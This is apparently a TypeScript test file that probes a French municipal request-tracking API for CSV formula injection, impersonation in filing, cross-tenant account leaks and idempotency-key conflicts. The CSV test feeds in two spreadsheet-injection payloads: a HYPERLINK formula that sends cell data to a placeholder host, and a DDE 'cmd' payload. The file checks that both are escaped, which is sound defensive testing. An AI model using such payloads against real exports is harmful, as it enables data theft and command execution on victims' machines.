/**
 * The black-box review's data probes, through the real API on both drivers: CSV exports never carry
 * a formula (8), only the call centre files in someone else's name (9), creating a person reveals
 * nothing of other tenants' accounts (11), and an idempotency key reused with other content is a
 * conflict (14).
 */
import { drivers } from "@mutu/db/testing";
import { describe, expect, test } from "vitest";
import { data } from "./harness.ts";
import { type Filed, useSaisineClock } from "./helpers/saisines.ts";

const managers = {
  communeManager: { name: "Camille Martin", function: "Directrice générale des services" },
  sharedServiceManager: { name: "Julien Bernard", function: "Directeur général du service commun" },
};

describe.each(drivers)("data probes on %s", (driver) => {
  const t = useSaisineClock(driver, "2026-06-02T09:00:00+02:00");

  test("8 · the yearly recap's CSV carries titles and reasons as text, never as formulas", async () => {
    const dgs = await t.as("dgs@begles.mutu-demo.fr");
    const filed = data<Filed>(
      await t.create(dgs, "begles", {
        type: "demande",
        subDomain: "A",
        nature: "exceptionnelle",
        title: '=HYPERLINK("http://exemple.test/?d="&A1)',
      }),
    );
    const can = await t.as("can@bordeaux-metropole.mutu-demo.fr");
    const decided = await t.h.mutate(
      "saisines.decideExceptional",
      {
        saisineId: filed.id,
        version: 1,
        decidedOn: "2026-06-03",
        outcome: "declinee",
        reasons: "+cmd|' /C calc'!A0",
        ...managers,
      },
      { cookie: can },
    );
    expect(decided.status, decided.error?.message).toBe(200);
    const { file } = data<{ file: { base64: string } }>(
      await t.h.query("saisines.yearlyRecap", { year: 2026, format: "csv" }, { cookie: dgs }),
    );
    const cells = Buffer.from(file.base64, "base64")
      .toString("utf8")
      .split(/;|\r\n/)
      .map((c) => c.replace(/^"|"$/g, ""));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain("'+cmd|' /C calc'!A0");
  });

  test("9 · a commune agent cannot file in a colleague's name; the call centre can", async () => {
    const agent = await t.as("agent@begles.mutu-demo.fr");
    const people = data<{ id: string; email: string }[]>(
      await t.h.query("people.list", {}, { cookie: await t.as("dgs@begles.mutu-demo.fr") }),
    );
    const dgsId = people.find((p) => p.email === "dgs@begles.mutu-demo.fr")?.id;
    const borrowed = await t.create(agent, "begles", { requesterId: dgsId });
    expect(borrowed.status).toBe(403);
    expect(borrowed.error?.message).toBe(
      "Seul le centre d'appel du service commun enregistre une saisine au nom d'une autre personne.",
    );
    const own = people.find((p) => p.email === "agent@begles.mutu-demo.fr")?.id;
    expect((await t.create(agent, "begles", { requesterId: own })).status).toBe(200);
    const can = await t.as("can@bordeaux-metropole.mutu-demo.fr");
    const registered = await t.create(can, "begles", { requesterId: dgsId, channel: "telephone" });
    expect(registered.status, registered.error?.message).toBe(200);
  });

  test("11 · an address used in another tenant creates the account without a word about it", async () => {
    const redon = await t.as("admin@redon-agglomeration.mutu-demo.fr");
    const taken = "dgs@begles.mutu-demo.fr"; // a Bordeaux Métropole commune's account
    const orgId = t.h.orgId("redon");
    const person = {
      orgId,
      displayName: "Dominique Garnier",
      email: taken,
      password: "une phrase de passe pour Redon",
      functionIds: [],
    };
    const created = await t.h.mutate("people.create", person, { cookie: redon });
    expect(created.status, created.error?.message).toBe(200);
    // Within the organisation, a second account with the address is refused, as before.
    const again = await t.h.mutate("people.create", person, { cookie: redon });
    expect(again.status).toBe(409);
    expect(again.error?.message).toBe(
      "Une personne de cette organisation utilise déjà cette adresse.",
    );
    // Each account signs in with its own password.
    expect(
      (await t.h.mutate("auth.signIn", { email: taken, password: person.password })).status,
    ).toBe(200);
    const begles = await t.h.signIn(taken);
    const me = data<{ org: { name: string } }>(
      await t.h.query("auth.me", undefined, { cookie: begles }),
    );
    expect(me.org.name).toBe("Bègles");
  });

  test("14 · the same key with the same content replays; with other content, a French conflict", async () => {
    const agent = await t.as("agent@begles.mutu-demo.fr");
    const fields = { title: "Imprimante du service état civil", idempotencyKey: "ticket-4242" };
    const first = data<Filed & { reference: string }>(await t.create(agent, "begles", fields));
    const replay = data<Filed & { replayed: boolean }>(
      await t.create(agent, "begles", { ...fields }),
    );
    expect(replay).toMatchObject({ id: first.id, replayed: true });
    const other = await t.create(agent, "begles", { ...fields, title: "Scanner de l'accueil" });
    expect(other.status).toBe(409);
    expect(other.error?.message).toBe(
      `Cette clé d'idempotence a déjà servi pour la saisine ${first.reference}, avec un autre contenu : s'il s'agit d'une nouvelle saisine, utilisez une nouvelle clé.`,
    );
  });
});
